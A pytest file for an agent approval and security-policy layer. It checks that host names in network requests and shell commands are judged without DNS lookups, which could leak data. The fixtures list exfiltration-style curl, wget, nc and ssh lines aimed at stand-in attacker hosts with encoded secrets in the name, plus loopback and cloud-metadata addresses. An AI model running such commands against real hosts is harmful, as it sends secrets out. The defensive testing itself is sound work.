"""The policy decides on a host *name* and never resolves it (issue #20).

A DNS lookup made while deciding reaches the network before anybody approved anything, and
the name alone can carry data out (``<secret>.attacker.example``: the attacker's name server
logs the question). So the policy judges the text: addresses in every spelling,
``localhost``-like and metadata names are refused without DNS; a name that is denied or not yet
approved is never looked up by the decision. What a name resolves to is checked once, after
approval, by the egress proxy, which connects to the address it checked.

The resolver here records every lookup and answers with a loopback address: a policy that
resolved would both leak the name and deny for the wrong reason.
"""

from __future__ import annotations

import socket
from pathlib import Path
from typing import Any

import pytest

from astrid_approval import SecurityPolicy, WorkspaceMode
from astrid_core import ApprovalOption, DenialLayer, NetworkRequest, ShellCommand
from astrid_core.storage import MemoryStorage
from astrid_crypto import KeyPair

from .conftest import ScriptedFrontend, make_interceptor

pytestmark = pytest.mark.anyio


@pytest.fixture
def lookups(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    seen: list[str] = []

    def getaddrinfo(host: Any, port: Any, *args: Any, **kwargs: Any) -> Any:
        seen.append(str(host))
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("127.0.0.1", port or 0))]

    def gethostbyname(host: str) -> str:
        seen.append(host)
        return "127.0.0.1"

    def gethostbyname_ex(host: str) -> tuple[str, list[str], list[str]]:
        seen.append(host)
        return host, [], ["127.0.0.1"]

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    monkeypatch.setattr(socket, "gethostbyname", gethostbyname)
    monkeypatch.setattr(socket, "gethostbyname_ex", gethostbyname_ex)
    return seen


NAMES = [
    "https://c2VjcmV0LWtleQ.attacker.test/",
    "http://leak-0123456789abcdef.attacker.test:8080/x",
    "https://api.example.com/v1",
]
SHELL_LINES = [
    "curl https://c2VjcmV0LWtleQ.attacker.test/",
    "curl c2VjcmV0LWtleQ.attacker.test",
    "wget -q leak.attacker.test/x",
    "nc leak.attacker.test 80",
    "ssh user@leak.attacker.test",
    "git clone https://leak.attacker.test/x.git",
    "curl --resolve leak.attacker.test:443:1.2.3.4 https://leak.attacker.test/",
    "curl https://blocked.evil.test/",
]


@pytest.mark.parametrize("mode", [WorkspaceMode.SAFE, WorkspaceMode.AUTONOMOUS])
@pytest.mark.parametrize("url", NAMES)
async def test_an_unapproved_name_is_never_resolved(
    workspace: Path, lookups: list[str], url: str, mode: WorkspaceMode
) -> None:
    handler = ScriptedFrontend(then=ApprovalOption.DENY)
    guard = await make_interceptor(
        MemoryStorage(), KeyPair.generate(), workspace, handler=handler, mode=mode
    )
    result = await guard.intercept(NetworkRequest(url=url), "x")
    assert not result.authorization.allowed
    # asked (and refused by the person), not denied by a lookup that found 127.0.0.1
    assert result.authorization.denied_by is DenialLayer.APPROVAL, result.authorization
    assert lookups == []


@pytest.mark.parametrize("mode", [WorkspaceMode.SAFE, WorkspaceMode.AUTONOMOUS])
async def test_a_denied_name_is_denied_without_a_lookup(
    workspace: Path, lookups: list[str], mode: WorkspaceMode
) -> None:
    handler = ScriptedFrontend(then=ApprovalOption.ALLOW_ALWAYS)
    policy = SecurityPolicy(home=str(workspace.parent / "home"), denied_hosts=("*.evil.test",))
    guard = await make_interceptor(
        MemoryStorage(), KeyPair.generate(), workspace, handler=handler, mode=mode, policy=policy
    )
    result = await guard.intercept(NetworkRequest(url="https://exfil.evil.test/x"), "x")
    assert result.authorization.denied_by is DenialLayer.POLICY
    assert handler.asked == []
    assert lookups == []


@pytest.mark.parametrize("mode", [WorkspaceMode.SAFE, WorkspaceMode.AUTONOMOUS])
@pytest.mark.parametrize("line", SHELL_LINES)
async def test_names_in_a_shell_line_are_never_resolved(
    workspace: Path, lookups: list[str], line: str, mode: WorkspaceMode
) -> None:
    handler = ScriptedFrontend(then=ApprovalOption.DENY)
    policy = SecurityPolicy(home=str(workspace.parent / "home"), denied_hosts=("*.evil.test",))
    guard = await make_interceptor(
        MemoryStorage(), KeyPair.generate(), workspace, handler=handler, mode=mode, policy=policy
    )
    result = await guard.intercept(ShellCommand(command=line, cwd=str(workspace)), "x")
    if "evil.test" in line:
        assert result.authorization.denied_by is DenialLayer.POLICY
    else:  # judged by the name alone: not refused as the loopback address it would resolve to
        assert result.authorization.denied_by is not DenialLayer.POLICY, result.authorization
    assert lookups == []


async def test_addresses_and_special_names_are_still_refused_without_dns(
    workspace: Path, lookups: list[str]
) -> None:
    guard = await make_interceptor(
        MemoryStorage(), KeyPair.generate(), workspace,
        handler=ScriptedFrontend(then=ApprovalOption.ALLOW_ALWAYS), mode=WorkspaceMode.AUTONOMOUS,
    )  # fmt: skip
    for url in ("http://127.1/", "http://0x7f000001/", "http://localhost./", "http://[::1]/",
                "http://metadata.google.internal/", "http://x.localhost:9/"):  # fmt: skip
        result = await guard.intercept(NetworkRequest(url=url), "x")
        assert result.authorization.denied_by is DenialLayer.POLICY, url
    assert lookups == []
